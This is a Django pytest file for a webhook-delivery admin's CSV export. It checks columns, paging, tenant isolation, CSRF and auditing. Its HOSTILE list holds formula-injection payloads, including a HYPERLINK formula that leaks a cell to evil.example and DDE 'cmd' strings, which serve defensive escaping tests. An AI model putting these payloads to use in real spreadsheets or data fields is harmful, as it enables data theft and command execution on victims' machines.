"""The list of deliveries as CSV: what the filter shows, of no other tenant, and nothing that is calculated."""

from __future__ import annotations

import csv
import gc
import io
from collections.abc import Iterator
from datetime import timedelta

import pytest
from django.db import DatabaseError, connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from deliveries.admin.base import export
from deliveries.admin.base.export import as_csv, cell
from deliveries.admin.parts import paging
from deliveries.models import AuditEntry, Customer, Delivery, DueDelivery, Endpoint, Event
from deliveries.models.visible import Viewer
from deliveries.services.accepting.events import EventDraft, accept_event
from deliveries.services.customers import delete_customer
from deliveries.services.reading.export_places import export_places
from deliveries.services.reading.selection import Selection, deliveries_of, read_types
from tests.pages.conftest import House, logged_in

pytestmark = pytest.mark.django_db

# What an endpoint answers, or what a customer calls itself, when it wants a spreadsheet to run it.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\uff1d1+1",
    '",=1+1,"',
    'a"\r\n=1+1,"b',
    "<script>alert(1)</script>",
    "\u202egnp",
]


@pytest.fixture(autouse=True)
def free_slots() -> Iterator[None]:
    """No export of another test counts."""
    export_places.taken.clear()
    yield
    export_places.taken.clear()


def emit(house: House, count: int, *, name: str = "order.shipped") -> None:
    """Events of the house's customer."""
    for _ in range(count):
        accept_event(EventDraft(customer_id=house.customer.id, type=name, data=b"{}"))
    DueDelivery.objects.update(rank=2, due_at=timezone.now() + timedelta(minutes=5))


def taken(client: Client, *, site: str = "admin", query: str = "") -> list[dict[str, str]]:
    """The rows of an export, by column."""
    answer = client.post(f"/{site}/deliveries/delivery/export/{query}")
    assert answer.status_code == 200
    assert isinstance(answer, StreamingHttpResponse)
    text = answer.getvalue().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_row_says_what_support_needs(bob: Client, acme: House) -> None:
    Event.objects.filter(pk=acme.event.pk).update(tags=["eu", "project:7"])
    (row,) = taken(bob, query="?tag=eu")
    assert row == {
        "delivery": acme.delivery.public_id,
        "customer": "Acme",
        "endpoint_url": acme.endpoint.url,
        "event": acme.event.public_id,
        "event_type": "invoice.paid",
        "state": "pending",
        "attempts": "1",
        "last_status": "404",
        "last_error": "http_4xx",
        "created_at": acme.delivery.created_at.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "finished_at": "",
        "tags": "eu project:7",
    }


def test_it_is_a_download(bob: Client, acme: House) -> None:
    answer = bob.post("/admin/deliveries/delivery/export/")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="deliveries-20')
    assert answer.headers["Cache-Control"].startswith("no-store")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_excel_sees_that_it_is_utf_8(bob: Client, acme: House) -> None:
    Customer.objects.filter(pk=acme.customer.pk).update(name="Müller & Söhne")
    answer = bob.post("/admin/deliveries/delivery/export/")
    assert isinstance(answer, StreamingHttpResponse)
    raw = answer.getvalue()
    assert raw.startswith(b"\xef\xbb\xbfdelivery,")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert "Müller & Söhne".encode() in raw


def test_what_the_filter_shows_is_taken_from_all_pages(bob: Client, acme: House, globex: House) -> None:
    emit(acme, 60)
    emit(globex, 3)
    assert len(taken(bob, query="?customer=acme&type=order.shipped")) == 60
    assert len(taken(bob, query="?error=http_4xx")) == 2
    assert len(taken(bob, query=f"?q={globex.endpoint.public_id}")) == 4
    assert taken(bob, query="?state=exhausted") == []
    place = bob.get("/admin/deliveries/delivery/").context["listing"].older
    assert len(taken(bob, query=place)) == 65


def test_rows_come_newest_first_in_parts_without_gaps(
    bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PART", 7)
    emit(acme, 28)
    found = [row["delivery"] for row in taken(bob)]
    assert found == [delivery.public_id for delivery in Delivery.objects.order_by("-id")]
    assert len(found) == 29


def test_an_export_counts_and_skips_nothing_and_asks_a_few_questions_a_part(
    bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PART", 10)
    emit(acme, 39)
    with CaptureQueriesContext(connection) as queries:
        assert len(taken(bob)) == 40
    on_log = [each["sql"] for each in queries if 'FROM "hookpost_delivery"' in each["sql"]]
    assert len(on_log) == 4
    assert not [sql for sql in on_log if "COUNT(" in sql.upper() or "OFFSET" in sql.upper()]
    assert all("LIMIT 11" in sql for sql in on_log)


def test_an_export_of_what_is_rare_reads_the_log_a_stretch_at_a_time(
    bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(paging, "WINDOW", 5)
    monkeypatch.setattr(paging, "LOOK_SECONDS", 0.0)
    emit(acme, 1, name="order.lost")
    emit(acme, 30)
    with CaptureQueriesContext(connection) as queries:
        assert [row["event_type"] for row in taken(bob, query="?type=order.lost")] == ["order.lost"]
    wholes = [
        each["sql"] for each in queries if "order.lost" in each["sql"] and 'FROM "hookpost_delivery"' in each["sql"]
    ]
    assert len(wholes) >= 6
    assert all('"id" >= ' in each for each in wholes[:-1]), "each ends where its stretch does"


def test_an_export_that_is_too_long_says_so_at_its_end(
    bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PART", 5)
    monkeypatch.setattr(export, "ROWS_LIMIT", 10)
    emit(acme, 9)
    assert len(taken(bob)) == 10
    emit(acme, 1)
    rows = taken(bob)
    assert len(rows) == 11
    assert rows[-1]["delivery"] == (
        "Not all deliveries are here: these are the newest 10; narrow the filter to get the others."
    )


@pytest.mark.parametrize(
    ("error", "said"), [(export.TooSlow(), "takes too long"), (DatabaseError("gone"), "the database did not answer")]
)
def test_an_export_that_breaks_off_says_so_at_its_end(
    error: Exception, said: str, bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*args: object) -> None:
        raise error

    monkeypatch.setattr(export, "_part", fail)
    (row,) = taken(bob)
    assert said in row["delivery"]


def test_an_export_ends_in_time(bob: Client, acme: House, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PART", 2)
    monkeypatch.setattr(export, "EXPORT_SECONDS", -1.0)
    emit(acme, 5)
    rows = taken(bob)
    assert len(rows) == 3
    assert "it took too long" in rows[-1]["delivery"]


# --- what others chose


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula_and_none_breaks_its_line(text: str, bob: Client, acme: House) -> None:
    Customer.objects.filter(pk=acme.customer.pk).update(name=text)
    Endpoint.objects.filter(pk=acme.endpoint.pk).update(url=text)
    Delivery.objects.update(error=text, event_type=text)
    emit(acme, 1)
    plain, hostile = taken(bob)
    for name in ("customer", "endpoint_url", "event_type", "last_error"):
        assert hostile[name].replace("'", "") == text.replace("'", "")
        assert hostile[name].lstrip()[0] not in "=+-@\uff1d"
    assert hostile["delivery"] == acme.delivery.public_id
    assert hostile["finished_at"] == plain["finished_at"] == ""


@given(st.lists(st.text(alphabet=st.characters() | st.sampled_from('=+-@\t\r\n",\x00\ud800')), min_size=1))
def test_any_text_is_one_cell_that_nothing_calculates(texts: list[str]) -> None:
    raw = as_csv([texts])
    (row,) = csv.reader(io.StringIO(raw.decode(), newline=""))
    assert len(row) == len(texts)
    assert not [each for each in row if each.strip()[:1] and each.strip()[0] in "=+-@\uff1d\uff0b\uff0d\uff20"]
    assert b"\x00" not in raw


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@given(st.lists(st.text(alphabet=st.sampled_from("a;|,=+-@\t\r\n\" '\uff1d")), min_size=1))
def test_no_machines_list_separator_makes_a_formula_of_a_part_of_a_cell(separator: str, texts: list[str]) -> None:
    """Given Excel in German or French, which takes a semicolon for the end of a cell, then no cell begins as one."""
    lines = io.StringIO(as_csv([("dlv", text) for text in texts]).decode(), newline="")
    cells = [each.strip(' \t\r\n"') for row in csv.reader(lines, delimiter=separator) for each in row]
    assert not [each for each in cells if each[:1] in tuple("=+-@\uff1d")]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Acme;=1+1", "Acme;'=1+1"),
        ('a; "=1+1', "a;' \"=1+1"),
        ('a\r\n=1+1,"b', "a\r\n'=1+1,\"b"),
        ("a;b=1, c-d|e", "a;b=1, c-d|e"),
    ],
)
def test_a_part_that_a_spreadsheet_would_calculate_gets_the_apostrophe(text: str, shown: str) -> None:
    assert cell(text) == shown


@pytest.mark.parametrize(
    ("value", "shown"),
    [(None, ""), (0, "0"), (404, "404"), ("", ""), ("a\x00b", "ab"), ("invoice.paid", "invoice.paid"), ("é", "é")],
)
def test_a_harmless_value_is_shown_as_it_is(value: object, shown: str) -> None:
    assert cell(value) == shown


# --- who may


def test_a_member_takes_their_own_customers_deliveries_only(carol: Client, acme: House, globex: House) -> None:
    emit(globex, 3)
    assert [row["delivery"] for row in taken(carol, site="portal")] == [acme.delivery.public_id]
    for query in (f"?q={globex.delivery.public_id}", f"?endpoint={globex.endpoint.public_id}"):
        assert taken(carol, site="portal", query=query) == []


def test_a_member_finds_no_export_on_the_staffs_site(carol: Client, acme: House) -> None:
    assert carol.post("/admin/deliveries/delivery/export/").status_code == 302


def test_lists_cannot_be_bent_by_lookups(carol: Client, acme: House, globex: House) -> None:
    answer = carol.post(f"/portal/deliveries/delivery/export/?customer__id={globex.customer.pk}")
    assert answer.status_code in (302, 400)


def test_an_export_is_a_post_with_the_forms_token(bob: Client, acme: House) -> None:
    for query in ("", "?state=exhausted"):  # somebody was logged out on the list, and in again by its button
        answer = bob.get(f"/admin/deliveries/delivery/export/{query}")
        assert (answer.status_code, answer.headers["Location"]) == (302, f"/admin/deliveries/delivery/{query or '?'}")
    strict = Client(enforce_csrf_checks=True)
    logged_in(acme.member.user, strict)
    assert strict.post("/portal/deliveries/delivery/export/").status_code == 403
    assert not AuditEntry.objects.filter(action="delivery.export").exists()


def test_who_took_what_is_in_the_audit_trail(bob: Client, carol: Client, acme: House) -> None:
    taken(bob, query="?customer=acme&state=pending&p=older-x")
    taken(carol, site="portal")
    staff, member = AuditEntry.objects.filter(action="delivery.export").order_by("id")
    assert (staff.actor, staff.customer, staff.detail) == (
        "user:bob",
        None,
        {"filter": {"customer": "acme", "state": "pending"}},
    )
    assert (member.actor, member.customer, member.detail) == ("member:carol", acme.customer, {"filter": {}})


def test_a_filter_that_cannot_be_stored_breaks_nothing(bob: Client, acme: House) -> None:
    taken(bob, query="?customer=a%00b%ed%a0%80&type=" + "x" * 5000)
    entry = AuditEntry.objects.get(action="delivery.export")
    assert len(entry.detail["filter"]["type"]) == 200


def give_up(answer: object) -> None:
    """What a server does when the browser is gone."""
    for close in answer._resource_closers:  # type: ignore[attr-defined]
        close()


def test_exports_hold_few_threads_at_once(bob: Client, acme: House) -> None:
    """Given two people who read slowly, then a third is asked to wait, and one who gave up makes room."""
    slow = [bob.post("/admin/deliveries/delivery/export/") for _ in range(2)]
    refused = bob.post("/admin/deliveries/delivery/export/", follow=True)
    assert "Other exports are under way." in refused.content.decode()
    give_up(slow[0])
    assert len(taken(bob)) == 1
    give_up(slow[1])
    assert not export_places.taken


def test_one_customers_exports_leave_places_for_others_and_for_staff(
    bob: Client, carol: Client, dave: Client, acme: House, globex: House
) -> None:
    """Given a member who reads slowly, then the same customer waits, another customer and staff do not."""
    slow = carol.post("/portal/deliveries/delivery/export/")
    refused = carol.post("/portal/deliveries/delivery/export/", follow=True)
    assert "Other exports are under way." in refused.content.decode()
    assert len(taken(dave, site="portal")) == 1
    assert len(taken(bob)) == 2
    give_up(slow)
    assert len(taken(carol, site="portal")) == 1


def test_an_export_that_nobody_closed_takes_no_place_once_it_is_gone(carol: Client, acme: House) -> None:
    slow = carol.post("/portal/deliveries/delivery/export/")
    del slow
    gc.collect()
    assert not export_places.taken


def test_what_outlived_its_customer_is_named_by_its_ids(bob: Client, acme: House) -> None:
    ids = acme.customer.public_id, acme.endpoint.public_id
    delete_customer(acme.customer, actor="user:alice")
    (row,) = taken(bob)
    assert (row["customer"], row["endpoint_url"]) == ids


def test_the_list_offers_the_export_of_what_it_shows(bob: Client, carol: Client, acme: House) -> None:
    for client, site in ((bob, "admin"), (carol, "portal")):
        text = client.get(f"/{site}/deliveries/delivery/?state=pending").content.decode()
        assert f'action="/{site}/deliveries/delivery/export/?state=pending"' in text


@pytest.mark.parametrize("words", ["order.*", "order.shipped,user.*", "order.shipped"])
def test_the_pages_and_the_export_take_the_apis_words_for_types(carol: Client, acme: House, words: str) -> None:
    """Given a family or several names, then list, export and the API find the same deliveries."""
    emit(acme, 2)
    meant, _ = deliveries_of(Viewer(acme.customer.id), Selection(types=read_types(words)))
    listed = carol.get("/portal/deliveries/delivery/", {"type": words}).content.decode()
    exported = [row["delivery"] for row in taken(carol, site="portal", query=f"?type={words}")]
    assert sorted(exported) == sorted(row.public_id for row in meant)
    assert exported
    assert all(id_ in listed for id_ in exported)
